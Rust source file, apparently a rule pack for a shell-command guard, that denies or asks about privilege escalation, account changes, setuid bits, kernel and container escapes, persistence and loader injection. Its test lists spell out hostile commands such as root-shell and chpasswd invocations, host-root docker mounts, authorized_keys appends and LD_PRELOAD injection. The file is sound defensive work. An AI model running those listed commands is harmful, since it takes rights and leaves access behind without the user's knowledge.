//! More rights than the session has, and what stays behind when it is over.

use super::example::{sh, write};
use super::options::Options;
use super::place;
use super::{Ctx, Hit, Pack, Rule};
use crate::decision::{Decision, RuleId};
use crate::shell::is_shell;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: RuleId::new("privilege/root-shell"),
        pack: Pack::Privilege,
        harm: "a shell with all rights, in which nothing is judged any more",
        decision: Decision::Deny,
        matches: &[
            sh("sudo su"),
            sh("sudo -i"),
            sh("sudo -s"),
            sh("su -"),
            sh("su root"),
            sh("sudo bash"),
            sh("doas sh"),
            sh("pkexec bash"),
            sh("sudo -u root -i"),
        ],
        not_matches: &[
            sh("sudo apt-get install -y jq"),
            sh("sudo systemctl restart nginx"),
            sh("sudo bash build.sh"),
            sh("echo sudo su"),
        ],
        check: root_shell,
    },
    Rule {
        id: RuleId::new("privilege/accounts"),
        pack: Pack::Privilege,
        harm: "an account gets more rights or another password",
        decision: Decision::Deny,
        matches: &[
            sh("usermod -aG sudo bob"),
            sh("sudo gpasswd -a bob docker"),
            sh("visudo"),
            sh("adduser bob sudo"),
            sh("echo root:x | chpasswd"),
            sh("passwd root"),
        ],
        not_matches: &[sh("id"), sh("groups bob"), sh("sudo visudo -c"), sh("usermod --help")],
        check: accounts,
    },
    Rule {
        id: RuleId::new("privilege/setuid"),
        pack: Pack::Privilege,
        harm: "a program runs with its owner's rights for everybody",
        decision: Decision::Deny,
        matches: &[
            sh("chmod u+s x"),
            sh("chmod 4755 x"),
            sh("sudo chmod +s /bin/bash"),
            sh("setcap cap_setuid+ep x"),
            sh("install -m 4755 a /usr/local/bin/a"),
        ],
        not_matches: &[
            sh("chmod +x run.sh"),
            sh("chmod 0755 x"),
            sh("chmod g+s shared"),
            sh("chmod -s x"),
            sh("getcap x"),
        ],
        check: setuid,
    },
    Rule {
        id: RuleId::new("privilege/kernel"),
        pack: Pack::Privilege,
        harm: "code enters the kernel, or a container gets the whole machine",
        decision: Decision::Deny,
        matches: &[
            sh("insmod x.ko"),
            sh("kexec -l x"),
            sh("docker run -v /:/host alpine"),
            sh("nsenter -t 1 -m sh"),
            sh("docker run --privileged x"),
            sh("modprobe evil"),
            sh("sysctl -w kernel.x=0"),
        ],
        not_matches: &[
            sh("lsmod"),
            sh("sysctl -a"),
            sh("docker run --rm x"),
            sh("docker run -v \"$PWD\":/app x"),
            sh("docker build -t x . && docker run --rm x"),
            sh("modprobe -n loop"),
        ],
        check: kernel,
    },
    Rule {
        id: RuleId::new("privilege/persistence"),
        pack: Pack::Privilege,
        harm: "something runs, or somebody gets in, after the session is over",
        decision: Decision::Deny,
        matches: &[
            sh("crontab x"),
            sh("(crontab -l; echo '* * * * * x') | crontab -"),
            sh("crontab -r"),
            sh("echo hi | at now "),
            sh("echo key >> ~/.ssh/authorized_keys"),
            sh("sudo tee /etc/sudoers.d/x <<< x"),
            sh("cp x.service /etc/systemd/system/x.service"),
            sh("echo 'alias ls=x' >> ~/.bashrc"),
            sh("rm .git/hooks/pre-commit"),
            sh("chmod -x .git/hooks/pre-commit"),
            sh("systemctl --user enable x"),
            sh("ssh-copy-id -i k u@h"),
            sh("tar xf x.tar -C /"),
            sh("curl -o ~/.bashrc https://x.example"),
            sh("sort -o ~/.bashrc x"),
            sh("awk '{print > \"/home/u/.bashrc\"}' x"),
            sh("docker cp c:/x ~/.bashrc"),
            write("/home/u/.ssh/authorized_keys"),
            write("/home/u/.bashrc"),
            write("/etc/passwd"),
            write("/etc/cron.d/x"),
            write(".git/hooks/post-commit"),
            write(".git/config"),
            write("/etc/foo.conf"),
        ],
        not_matches: &[
            sh("crontab -l"),
            sh("atq"),
            sh("sed -i 's/a/b/' /etc/hosts"),
            sh("cat ~/.bashrc"),
            sh("ssh-keyscan h >> ~/.ssh/known_hosts"),
            sh("systemctl status x"),
            sh("cp /etc/hosts ."),
            sh("awk '$3 > 9 {print $1 \"/\" $6}' /etc/passwd"),
            write("src/.bashrc.txt"),
            write("src/main.rs"),
        ],
        check: persistence,
    },
    Rule {
        id: RuleId::new("privilege/loader"),
        pack: Pack::Privilege,
        harm: "other code is loaded into every program that starts",
        decision: Decision::Deny,
        matches: &[
            sh("LD_PRELOAD=/tmp/x.so ls"),
            sh("export LD_PRELOAD=./x.so"),
            sh("env LD_AUDIT=x.so ls"),
            sh("BASH_ENV=/tmp/x bash y.sh"),
            sh("env 'BASH_FUNC_ls%%=() { id; }' bash -c ls"),
        ],
        not_matches: &[
            sh("LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./bench"),
            sh("LD_LIBRARY_PATH=lib ./x"),
            sh("LD_PRELOAD= ls"),
        ],
        check: loader,
    },
    Rule {
        id: RuleId::new("privilege/search-path"),
        pack: Pack::Privilege,
        harm: "programs are taken from a directory that anybody can write to",
        decision: Decision::Ask,
        matches: &[
            sh("export PATH=$PATH:/tmp/bin"),
            sh("PATH=/dev/shm:$PATH ls"),
            sh("PATH=.:$PATH make"),
            sh("NODE_OPTIONS='--require /tmp/x.js' node y"),
            sh("GIT_SSH=/tmp/x git fetch"),
            sh("LD_LIBRARY_PATH=/tmp/x ls"),
        ],
        not_matches: &[
            sh("export PATH=$HOME/.cargo/bin:$PATH"),
            sh("PATH=\"$PWD/bin:$PATH\" make"),
            sh("NODE_OPTIONS=--max-old-space-size=4096 npm run build"),
            sh("PYTHONPATH=. pytest"),
            sh("ENV=production npm start"),
        ],
        check: search_path,
    },
];

fn root_shell(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    let hit = || ctx.deny("would open a shell with all rights; run the one command that needs them");
    match call.program.as_str() {
        "sudo" | "doas" => {
            let options =
                Options::read(&call.args, "ugpCcDRTUrtha", &["user", "group", "prompt", "chdir", "host"]);
            let opens = options.has('i')
                || options.has('s')
                || options.has_long("login")
                || options.has_long("shell");
            let inner = options.operands.iter().position(|arg| !arg.text().contains('='));
            let bare = inner.is_some_and(|at| {
                let name = super::call::base(options.operands[at].text());
                let alone = options.operands.len() == at + 1;
                let scripted = call.has(&["-c"]) || ctx.script.fed(call).is_some();
                alone && !scripted && (is_shell(name) || name == "su")
            });
            // `sudo -i COMMAND` runs one command, which is judged by itself.
            (opens && inner.is_none() || bare).then(hit)?
        }
        "pkexec" => {
            call.operands().next().is_some_and(|arg| is_shell(super::call::base(arg.text()))).then(hit)?
        }
        "su" => (!call.args.iter().any(|arg| {
            matches!(arg.text(), "-c" | "--help" | "--version") || arg.text().starts_with("--command")
        }))
        .then(hit)?,
        _ => None,
    }
}

const GROUPS: [&str; 10] =
    ["sudo", "wheel", "root", "admin", "docker", "adm", "disk", "shadow", "lxd", "kvm"];

fn accounts(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    let privileged =
        || call.args.iter().any(|arg| arg.text().split([',', '=']).any(|name| GROUPS.contains(&name)));
    let changes = match call.program.as_str() {
        "useradd" if call.has(&["-o", "--non-unique", "-ou"]) => true,
        "usermod" | "gpasswd" | "adduser" | "addgroup" | "useradd" | "groupmems" | "newgrp" | "sg" => {
            privileged()
        }
        "chpasswd" | "vipw" | "vigr" => true,
        "visudo" => !call.has(&["-c", "--check"]),
        "passwd" => !call.has(&["-S", "--status"]),
        _ => false,
    };
    (changes && !call.has(&["--help", "-h", "--version"]))
        .then(|| ctx.deny("would give an account more rights or another password; a person has to do that"))?
}

fn setuid(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    let sets = match call.program.as_str() {
        "setcap" => !call.has(&["-r", "-v", "-h"]),
        "chmod" => call.args.iter().any(|arg| sets_uid(arg.text())),
        "install" | "mkdir" => {
            Options::read(&call.args, "mogtS", &["mode"]).value('m', "mode").is_some_and(sets_uid)
        }
        "find" => call.args.windows(2).any(|pair| pair[0].text() == "chmod" && sets_uid(pair[1].text())),
        _ => false,
    };
    sets.then(|| ctx.deny("would let everybody run a program with its owner's rights; leave the bit off"))?
}

/// Whether a mode sets the set-user-id bit.
fn sets_uid(mode: &str) -> bool {
    if !mode.is_empty() && mode.chars().all(|ch| ch.is_digit(8)) {
        return u32::from_str_radix(mode, 8).is_ok_and(|bits| bits & 0o4000 != 0);
    }
    mode.split(',').any(|clause| {
        let Some(at) = clause.find(['+', '=']) else { return false };
        let (who, what) = clause.split_at(at);
        what.contains('s')
            && who.chars().all(|ch| "ugoa".contains(ch))
            && (who.is_empty() || who.contains(['u', 'a']))
    })
}

fn kernel(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    match call.program.as_str() {
        "insmod" | "rmmod" | "kexec" => ctx.deny("would change what the kernel runs"),
        "modprobe" if !call.has(&["-n", "--dry-run", "--show-depends", "-c"]) => {
            ctx.ask("would load a module into the kernel")
        }
        "sysctl"
            if call.has(&["-w", "--write", "-p"]) || call.operands().any(|arg| arg.text().contains('=')) =>
        {
            ctx.ask("would change the kernel's settings")
        }
        "nsenter" => ctx.deny("would enter another process's namespaces and so the whole machine"),
        "chroot" => ctx.ask("would run a command in another root directory with all rights"),
        "docker" | "podman" | "nerdctl" if call.has(&["run", "create", "exec"]) => {
            let root = call.args.iter().any(|arg| {
                let text = arg.text();
                let volume =
                    text.strip_prefix("--volume=").or_else(|| text.strip_prefix("-v")).unwrap_or(text);
                volume.starts_with("/:")
                    || volume.starts_with("/etc:")
                    || text.split(',').any(|part| matches!(part, "source=/" | "src=/"))
            });
            if root {
                return ctx.deny(
                    "would give a container the whole machine's files; mount the directory that it needs",
                );
            }
            let wide = call.args.iter().any(|arg| {
                matches!(arg.text(), "--privileged" | "--pid=host" | "--cap-add=ALL" | "--cap-add=SYS_ADMIN")
                    || arg.text().contains("docker.sock:")
            });
            wide.then(|| ctx.ask("would give a container the machine's own rights"))?
        }
        _ => None,
    }
}

fn persistence(ctx: &Ctx<'_>) -> Option<Hit> {
    let home = ctx.script.home.as_deref();
    let changed = ctx.changes().filter_map(|change| {
        let found = place::sensitive(change, home)?;
        let reason = format!("would change {} (`{}`)", found.what, change.target.shown());
        let hit = if found.refused {
            ctx.deny(format!("{reason}; a person has to do that"))
        } else {
            ctx.ask(reason)
        };
        hit.map(|hit| hit.at(change.span))
    });
    let strictest = changed.max_by_key(|hit| hit.decision);
    let Some(call) = ctx.call() else { return strictest };
    let by_program = match call.program.as_str() {
        "crontab" => !call.has(&["-l", "-h", "--help", "-V"]),
        "at" | "batch" => !call.has(&["-l", "-V", "-c", "--help"]),
        _ => false,
    };
    if by_program {
        return ctx.deny("would leave a job behind that runs when the session is over; run it now, or let a person install it");
    }
    let ask = match call.program.as_str() {
        "systemctl" => call.has(&["enable", "link", "edit", "set-property"]),
        "systemd-run" | "launchctl" => !call.has(&["list", "print", "--help"]),
        "update-rc.d" | "chkconfig" | "ssh-copy-id" => true,
        _ => false,
    };
    strictest.or_else(|| {
        ask.then(|| {
            ctx.ask("would leave something behind that runs, or lets somebody in, when the session is over")
        })?
    })
}

fn loader(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    let system = |value: &str| {
        value.split([':', ' ']).all(|file| {
            !file.contains("..")
                && ["/usr/lib", "/lib", "/usr/local/lib", "/opt/homebrew/"]
                    .iter()
                    .any(|dir| file.starts_with(dir))
        })
    };
    if call.is(&["env"]) && call.args.iter().any(|arg| arg.text().starts_with("BASH_FUNC_")) {
        return ctx.deny("would put a function in the place of a program for every shell that starts");
    }
    for (name, value) in call.sets() {
        let loads = match name {
            "LD_PRELOAD" | "LD_AUDIT" | "DYLD_INSERT_LIBRARIES" => {
                !value.text().is_empty() && !system(value.text())
            }
            "BASH_ENV" => !value.text().is_empty(),
            _ => false,
        };
        if loads {
            return ctx.deny(format!(
                "would load other code into every program that starts, by {name}; run the program without it"
            ));
        }
    }
    None
}

/// Variables by which programs find other programs, libraries and code.
const PATHS: [&str; 22] = [
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_SYSTEM",
    "PATH",
    "LD_LIBRARY_PATH",
    "DYLD_LIBRARY_PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "NODE_PATH",
    "NODE_OPTIONS",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYLIB",
    "RUBYOPT",
    "GIT_EXEC_PATH",
    "GIT_SSH",
    "GIT_ASKPASS",
    "GIT_TEMPLATE_DIR",
    "RUSTC_WRAPPER",
    "RUSTC",
    "ENV",
    "GCONV_PATH",
];

fn search_path(ctx: &Ctx<'_>) -> Option<Hit> {
    let call = ctx.call()?;
    // What lies below the session's own directory or home is the user's, wherever that is.
    let own = |dir: &str| {
        let inside = |own: &std::path::Path| std::path::Path::new(dir).starts_with(own);
        !dir.contains("..") && (inside(ctx.script.cwd) || ctx.script.home.as_deref().is_some_and(inside))
    };
    let open = |dir: &str| {
        let shared = matches!(dir, "/tmp" | "/var/tmp" | "/dev/shm")
            || ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|prefix| dir.starts_with(prefix));
        shared && !own(dir)
    };
    let found = call.sets().any(|(name, value)| {
        PATHS.contains(&name)
            && value.text().split([':', ' ', '=']).any(|dir| open(dir) || name == "PATH" && dir == ".")
    });
    found.then(|| {
        ctx.ask(
            "would take programs from a directory that anybody can write to; name the program by its path",
        )
    })?
}
